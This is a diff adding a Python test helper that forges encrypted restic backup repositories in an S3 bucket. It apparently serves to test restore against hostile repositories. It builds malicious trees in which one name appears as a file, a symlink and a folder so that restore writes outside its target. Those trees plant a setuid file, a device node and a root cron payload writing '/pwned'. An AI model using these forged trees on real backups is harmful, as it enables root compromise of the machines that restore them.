@@ -1,0 +1,159 @@
+"""A machine's repository as a hostile machine may write it: any tree, any snapshot, with its own key and password.
+
+It knows restic's format (doc/design.rst of restic): packs, index and snapshots, sealed with AES-CTR and Poly1305-AES.
+"""
+
+import base64
+import hashlib
+import json
+import os
+import struct
+from typing import Any
+
+from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
+from cryptography.hazmat.primitives.poly1305 import Poly1305
+
+DIRECTORY, SYMLINK, DEVICE, FIFO, SETUID, CHARACTER = 1 << 31, 1 << 27, 1 << 26, 1 << 25, 1 << 23, 1 << 21
+"""Go's bits of a mode, which restic stores."""
+MOMENT = "2024-01-01T00:00:00Z"
+
+
+class Forge:
+    """Somebody with a machine's S3 key and password, at its bucket."""
+
+    def __init__(self, s3: Any, bucket: str, password: str) -> None:
+        self.s3, self.bucket = s3, bucket
+        (name,) = [each["Key"] for each in s3.list_objects_v2(Bucket=bucket, Prefix="restic/keys/")["Contents"]][:1]
+        key = json.loads(s3.get_object(Bucket=bucket, Key=name)["Body"].read())
+        salt, limit = base64.b64decode(key["salt"]), 256 << 20
+        raw = hashlib.scrypt(password.encode(), salt=salt, n=key["N"], r=key["r"], p=key["p"], dklen=64, maxmem=limit)
+        self._encrypt, self._mac_key, self._mac_r = raw[:32], raw[32:48], raw[48:]
+        master = json.loads(self._open(base64.b64decode(key["data"])))
+        self._encrypt = base64.b64decode(master["encrypt"])
+        self._mac_key, self._mac_r = (base64.b64decode(master["mac"][each]) for each in "kr")
+        self._blobs: dict[str, tuple[str, bytes]] = {}
+        self.written: list[str] = []
+
+    def data(self, content: bytes) -> str:
+        return self._blob("data", content)
+
+    def tree(self, *nodes: "dict[str, Any] | str") -> str:
+        """Store a folder's entries, as they are given; text stands for itself, whatever JSON it is."""
+        parts = [each if isinstance(each, str) else json.dumps(each) for each in nodes]
+        return self.raw_tree(('{"nodes":[' + ",".join(parts) + "]}\n").encode())
+
+    def raw_tree(self, content: bytes) -> str:
+        return self._blob("tree", content)
+
+    def snapshot(self, tree: str, time: str = MOMENT, **more: object) -> str:
+        """Store a snapshot of a tree and all that was made for it; returns its id."""
+        packs = [self._pack(kind) for kind in ("data", "tree") if any(each == kind for each, _ in self._blobs.values())]
+        self._sealed("index", json.dumps({"packs": packs}).encode())
+        self._blobs = {}
+        body = {"time": time, "tree": tree, "paths": ["/home"], "hostname": "forged", "username": "root", **more}
+        return self._sealed("snapshots", json.dumps(body).encode())
+
+    def wipe(self) -> None:
+        """Take all of it away again, as if it had never been (with the owner's key)."""
+        for key in self.written:
+            listed = self.s3.list_object_versions(Bucket=self.bucket, Prefix=key)
+            for each in [*listed.get("Versions", []), *listed.get("DeleteMarkers", [])]:
+                self.s3.delete_object(Bucket=self.bucket, Key=each["Key"], VersionId=each["VersionId"])
+
+    def put(self, key: str, body: bytes) -> None:
+        self.s3.put_object(Bucket=self.bucket, Key=key, Body=body)
+        self.written.append(key)
+
+    def _blob(self, kind: str, content: bytes) -> str:
+        name = hashlib.sha256(content).hexdigest()
+        self._blobs[name] = (kind, content)
+        return name
+
+    def _pack(self, kind: str) -> dict[str, Any]:
+        body, header, index = b"", b"", []
+        for name, (of_kind, content) in self._blobs.items():
+            if of_kind != kind:
+                continue
+            sealed = self._seal(content)
+            index.append({"id": name, "type": kind, "offset": len(body), "length": len(sealed)})
+            header += struct.pack("<BI", 0 if kind == "data" else 1, len(sealed)) + bytes.fromhex(name)
+            body += sealed
+        sealed = self._seal(header)
+        body += sealed + struct.pack("<I", len(sealed))
+        name = hashlib.sha256(body).hexdigest()
+        self.put(f"restic/data/{name[:2]}/{name}", body)
+        return {"id": name, "blobs": index}
+
+    def _sealed(self, kind: str, content: bytes) -> str:
+        body = self._seal(content)
+        name = hashlib.sha256(body).hexdigest()
+        self.put(f"restic/{kind}/{name}", body)
+        return name
+
+    def _mac(self, nonce: bytes, text: bytes) -> bytes:
+        block = Cipher(algorithms.AES(self._mac_key), modes.ECB()).encryptor()  # noqa: S305 (Poly1305-AES is made so)
+        clamped = bytearray(self._mac_r)
+        for place in (3, 7, 11, 15):
+            clamped[place] &= 15
+        for place in (4, 8, 12):
+            clamped[place] &= 252
+        return Poly1305.generate_tag(bytes(clamped) + block.update(nonce), text)
+
+    def _seal(self, content: bytes) -> bytes:
+        nonce = os.urandom(16)
+        text = Cipher(algorithms.AES(self._encrypt), modes.CTR(nonce)).encryptor().update(content)
+        return nonce + text + self._mac(nonce, text)
+
+    def _open(self, box: bytes) -> bytes:
+        nonce, text, mac = box[:16], box[16:-16], box[-16:]
+        assert self._mac(nonce, text) == mac, "not this password"
+        return Cipher(algorithms.AES(self._encrypt), modes.CTR(nonce)).decryptor().update(text)
+
+
+def node(name: str, kind: str, **more: object) -> dict[str, Any]:
+    """Return an entry of a tree; ``name`` is written as it is, with restic's escapes if it has any."""
+    times = dict.fromkeys(("mtime", "atime", "ctime"), MOMENT)
+    return {"name": name, "type": kind, "mode": 0o644, **times, "uid": 0, "gid": 0, "content": None, **more}
+
+
+def link(name: str, target: object) -> dict[str, Any]:
+    return node(name, "symlink", mode=0o777 | SYMLINK, linktarget=str(target))
+
+
+def folder(name: str, tree: str, mode: int = 0o755) -> dict[str, Any]:
+    return node(name, "dir", mode=mode | DIRECTORY, subtree=tree)
+
+
+def file(name: str, blob: str, size: int, **more: object) -> dict[str, Any]:
+    return node(name, "file", content=[blob], size=size, **more)
+
+
+BAIT, PAYLOAD = b"bait\n", b"* * * * * root id >/pwned\n"
+
+
+def escaping_tree(forge: Forge, outside: object) -> str:
+    """Return a tree that lists one name as a file, as a link to ``outside`` and as a folder.
+
+    restic puts the folder's entries through the link: a set-user-ID file, a link, a device, and a link in place of
+    `precious`; and gives the folder's mode to what the link leads to.
+    """
+    payload, bait = forge.data(PAYLOAD), forge.data(BAIT)
+    twin = {"inode": 4242, "device_id": 7, "links": 2}
+    inner = forge.tree(
+        file("planted", payload, len(PAYLOAD), mode=0o755 | SETUID, **twin),
+        link("link", "/etc/hostname"),
+        node("null", "chardev", mode=0o666 | DEVICE | CHARACTER, device=(1 << 8) | 3),
+        link("precious", "nothing"),
+    )
+    return forge.tree(
+        file("a-source", payload, len(PAYLOAD), **twin),
+        file("escape", bait, len(BAIT)),
+        link("escape", outside),
+        folder("escape", inner, 0o777),
+    )
+
+
+def unlinking_tree(forge: Forge, outside: object) -> str:
+    """Return a tree that lists one name as a folder with a socket `precious`, then as a link to ``outside``."""
+    inner = forge.tree(node("precious", "socket"))
+    return forge.tree(folder("escape", inner), link("escape", outside), file("z", forge.data(BAIT), len(BAIT)))
